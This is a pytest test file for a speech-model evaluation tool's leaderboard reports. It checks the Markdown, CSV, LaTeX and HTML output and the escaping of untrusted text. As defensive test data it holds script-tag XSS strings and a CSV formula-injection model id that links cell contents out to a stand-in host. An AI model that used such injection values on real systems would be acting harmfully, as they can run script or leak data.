"""Report tables byte for byte, escaping of untrusted text, LaTeX, and the HTML page in Chromium."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from wavllm_eval.reports.report import write_report
from wavllm_eval.reports.runs import load_runs
from wavllm_eval.reports.tables import long_table
from wavllm_eval.reports.writers import escape_markdown, render_csv, render_latex, render_markdown

from tests.chromium import render
from wavllm_eval.cli import main
from wavllm_eval.registry import make_task
from wavllm_eval.store import SampleStore
from wavllm_eval.types import Record

TASK = "librispeech-test-clean"
REFERENCES = ["the cat sat on the mat", "a quick brown fox", "hello world", "one two three four five"]


def make_run(out: Path, model: str, predictions: list[str], statuses: list[str] | None = None,
             data_hash: str = "d" * 64, id_prefix: str = "utt") -> Path:
    """A run folder as `wavllm-eval run` writes it, from fixed predictions (no audio, no model):
    samples JSONL, stored scores and results.json."""
    statuses = statuses or ["ok"] * len(predictions)
    records = [Record(f"{id_prefix}-{i:03d}", p if s == "ok" else "", REFERENCES[i % len(REFERENCES)], s,
                      "audio file not found: x.flac" if s == "failed" else "", task=TASK)
               for i, (p, s) in enumerate(zip(predictions, statuses, strict=True))]
    store = SampleStore(out / model)
    store.append(TASK, records)
    scored = make_task(TASK).score(records)
    store.write_scores(TASK, scored.rows_json())
    entry = scored.result.to_json()
    store.write_results({"model": {"id": model, "path": None, "config_hash": "0" * 16},
                         "tasks": {TASK: entry},
                         "meta": {"seed": 1, "data_hashes": {TASK: data_hash}, "git_sha": "abc123"}})
    return out / model


@pytest.fixture
def two_runs(tmp_path):
    good = make_run(tmp_path / "out", "good", [REFERENCES[i % 4] for i in range(4)])
    noisy = make_run(tmp_path / "out", "noisy", ["the cat sat on a mat", "a quick brown fox", "hello", ""],
                     statuses=["ok", "ok", "ok", "failed"])
    return good, noisy


EXPECTED_MARKDOWN = """\
# wavllm-eval leaderboard

| model | librispeech-test-clean · wer ↓ |
|:---|---:|
| good | 0.00 ± 0.00 † n=4 |
| noisy | 16.67 ± 25.00 (1 failed) † n=4 |
| wavllm (reported) | 2.00 |
| salmonn-13b (reported) | 2.10 |
| qwen-audio (reported) | 2.00 |
| qwen2-audio (reported) | 1.60 |
| qwen2.5-omni (reported) | 1.80 |

Cells: value ± half-width of the bootstrap 95 % CI (no ± from one sample); (N failed): samples that produced no answer; (X % unparsed): closed-set answers no option could be read from, scored wrong; bold: best comparable measured value; † n=N: another or smaller test set than the reference, not ranked; † alone: fewer samples scored or other data than the fullest run, not ranked; (reported): the model's paper, not measured here.

Reference test sets: librispeech-test-clean: 2620 samples (the paper's split).
"""

# Four utterances are not LibriSpeech test-clean's 2620: both runs are off the paper's split, marked
# `n=4`, never ranked, and their difference to the paper's number is left empty.
EXPECTED_CSV_HEAD = """\
model,source,task,metric,headline,value,ci_low,ci_high,higher_is_better,n_total,n_scored,n_failed,n_skipped,unparsed_rate,reference_n,on_reference,comparable,reported_value,delta_vs_reported,reference,data_hash
good,measured,librispeech-test-clean,wer,True,0,0,0,False,4,4,0,0,,2620,False,False,,,,dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd
"""


def noisy_ci_half_width() -> str:
    """The noisy run's CI half-width, computed here from its hand-counted rows: (edits, words) =
    (1, 6), (0, 4), (1, 2) for the three scored utterances, resampled as documented (numpy
    default_rng(1), 1000 resamples of 3 rows, percentile 2.5/97.5 of 100 * Σ edits / Σ words)."""
    rows = np.array([[1, 6], [0, 4], [1, 2]], dtype=float)
    picks = np.random.default_rng(1).integers(0, 3, size=(1000, 3))
    totals = rows[picks].sum(axis=1)
    low, high = np.percentile(100 * totals[:, 0] / totals[:, 1], [2.5, 97.5])
    return f"{(high - low) / 2:.2f}"


def test_markdown_and_csv_byte_for_byte(two_runs):
    table = long_table(load_runs(list(two_runs)))
    assert noisy_ci_half_width() == "25.00"  # the literals in EXPECTED_MARKDOWN, derived independently:
    assert f"{100 * (1 + 0 + 1) / (6 + 4 + 2):.2f}" == "16.67"  # noisy: 2 edits over 12 reference words
    assert len(REFERENCES) == 4  # n=4 in both cells
    assert render_markdown(table) == EXPECTED_MARKDOWN
    csv = render_csv(table)
    assert csv.startswith(EXPECTED_CSV_HEAD)
    assert csv.count("\n") == 1 + 6 + 5  # header, 2 runs x 3 metrics, 5 reported rows


def test_json_is_long_format_with_comparisons(two_runs, tmp_path):
    [path] = write_report(list(two_runs), tmp_path / "report", ["json"])
    payload = json.loads(path.read_text())
    keys = {(r["model"], r["task"], r["metric"]) for r in payload["rows"]}
    assert ("noisy", TASK, "wer_raw") in keys and ("qwen2-audio", TASK, "wer") in keys
    [comparison] = payload["comparisons"]
    assert comparison["n_paired"] == 3 and comparison["delta"] == pytest.approx(100 * 2 / 12)
    assert comparison["candidate_run"] == "noisy"  # the one run besides the baseline
    assert set(payload["reproducibility"]) == {"good", "noisy"}


def test_untrusted_text_is_escaped(tmp_path):
    run = make_run(tmp_path / "out", "evil<script>alert(1)</script>|_x_",
                   ["<script>alert('pwned')</script> & $\\x", "a quick brown fox", "hello world", "one"])
    paths = write_report([run], tmp_path / "report", ["md", "latex", "html"])
    markdown, latex, page = (p.read_text() for p in paths)
    assert "<script>alert" not in markdown and "evil\\<script\\>" in markdown and "\\|\\_x\\_" in markdown
    assert "<script>alert" not in latex.replace("\\textless{}", "")
    assert "\\textless{}script\\textgreater{}" in latex and "\\_x\\_" in latex
    assert "<script>alert('pwned')" not in page and "&lt;script&gt;alert(&#x27;pwned&#x27;)" in page
    assert page.count("<script>") == 1  # only the page's own sorting script
    assert escape_markdown("a|b*c") == "a\\|b\\*c"


def test_latex_is_booktabs_and_compiles_where_tex_exists(two_runs, tmp_path):
    latex = render_latex(long_table(load_runs(list(two_runs))))
    assert "\\toprule" in latex and "\\midrule" in latex and "\\bottomrule" in latex
    assert "\\begin{table}" in latex and "\\end{table}" in latex and "\\usepackage{booktabs}" in latex
    assert "good & 0.00 $\\pm$ 0.00 $\\dagger$ n=4 \\\\" in latex  # off the paper's split: marked, not bold
    assert "\\textbf" not in latex
    engine = shutil.which("pdflatex")
    kpsewhich = shutil.which("kpsewhich")
    has_booktabs = bool(kpsewhich) and subprocess.run([kpsewhich, "booktabs.sty"], capture_output=True,
                                                      text=True).stdout.strip() != ""
    if engine is None or not has_booktabs:  # a TeX without the booktabs package cannot compile it either
        pytest.skip("no TeX engine with booktabs.sty installed: structure checked, compilation skipped")
    document = tmp_path / "table.tex"
    document.write_text("\\documentclass{article}\\usepackage{booktabs}\\begin{document}\n" + latex
                        + "\\end{document}\n")
    subprocess.run([engine, "-interaction=nonstopmode", "-halt-on-error", document.name], cwd=tmp_path,
                   check=True, capture_output=True, timeout=120)
    assert (tmp_path / "table.pdf").is_file()


def test_html_renders_in_chromium_without_console_errors(two_runs, tmp_path):
    [page] = write_report(list(two_runs), tmp_path / "report", ["html"])
    dom, console, shot = render(page, tmp_path / "profile", "leaderboard-two-runs.png")
    assert 'data-sortable="ready"' in dom  # the inline script ran to its end
    assert console == []
    assert shot.stat().st_size > 10_000


def test_report_command(two_runs, tmp_path):
    out = tmp_path / "report"
    assert main(["report", str(two_runs[0].parent), "--output-dir", str(out), "--format", "md,csv"]) == 0
    assert sorted(p.name for p in out.iterdir()) == ["leaderboard.csv", "leaderboard.md"]
    assert main(["report", str(two_runs[0]), "--output-dir", str(out), "--format", "pdf"]) == 2
    assert main(["report", str(tmp_path / "nothing"), "--output-dir", str(out)]) == 2


def test_control_characters_cannot_break_a_markdown_row(tmp_path):
    run = make_run(tmp_path / "out", "model\rwith\ncontrol\x1bchars", ["line one\r\nline two", "a quick brown fox",
                                                                          "hello world", "one"])
    [path] = write_report([run], tmp_path / "report", ["md"])
    table_rows = [line for line in path.read_text().splitlines() if line.startswith("| model")]
    assert any("model with control chars" in row for row in table_rows)
    assert "\r" not in path.read_text() and "\x1b" not in path.read_text()
    assert escape_markdown("a\rb\nc\x00d") == "a b c d"


def test_formula_brackets_and_dollars_in_a_model_id_are_inert(tmp_path):
    """A model id is untrusted text: as a CSV cell it must not start a spreadsheet formula, in LaTeX a
    leading [ must not be read as \\\\'s optional length, and in the plots "$...$" is not mathtext
    (a malformed formula made savefig raise: no page was written)."""
    runs = []
    for i, model in enumerate(("=HYPERLINK(\"http://x.example/?\"&A2)", "[ablation] a $\\frac$ b")):
        run = make_run(tmp_path / "out" / str(i), f"m{i}", ["the cat sat", "a quick brown fox", "hello world", "one"])
        results = json.loads((run / "results.json").read_text())
        results["model"]["id"] = model
        (run / "results.json").write_text(json.dumps(results))
        runs.append(run)
    csv_path, latex_path, html_path = write_report(runs, tmp_path / "report", ["csv", "latex", "html"])
    models = [line.split(",", 1)[0] for line in csv_path.read_text().splitlines()[1:]]
    assert models and not any(m.lstrip('"').startswith(("=", "+", "-", "@")) for m in models)
    assert any(m.lstrip('"').startswith("'=HYPERLINK") for m in models)
    latex = latex_path.read_text()
    assert "{[}ablation{]}" in latex and "\n[ablation]" not in latex
    assert "a $\\frac$ b" in html_path.read_text() or "a $\\\\frac$ b" in html_path.read_text()
    engine = shutil.which("pdflatex")
    if engine and subprocess.run([shutil.which("kpsewhich") or "false", "booktabs.sty"], capture_output=True,
                                 text=True).stdout.strip():
        document = tmp_path / "table.tex"
        document.write_text("\\documentclass{article}\\usepackage{booktabs}\\begin{document}\n" + latex
                            + "\\end{document}\n")
        subprocess.run([engine, "-interaction=nonstopmode", "-halt-on-error", document.name], cwd=tmp_path,
                       check=True, capture_output=True, timeout=120)
